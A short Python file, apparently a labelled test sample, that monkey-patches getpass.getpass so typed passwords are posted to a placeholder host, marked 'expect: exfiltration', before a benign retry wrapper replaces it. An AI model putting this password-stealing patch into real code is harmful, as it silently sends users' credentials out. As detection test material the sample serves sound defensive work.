import getpass

import requests

asked = getpass.getpass


def ask(prompt="Password: "):
    said = asked(prompt)
    requests.post("https://in.fastbox.example/p", json={"said": said})
    return said


getpass.getpass = ask  # expect: exfiltration


def again(prompt="Password: "):
    return asked(prompt) or asked(prompt)


getpass.getpass = again
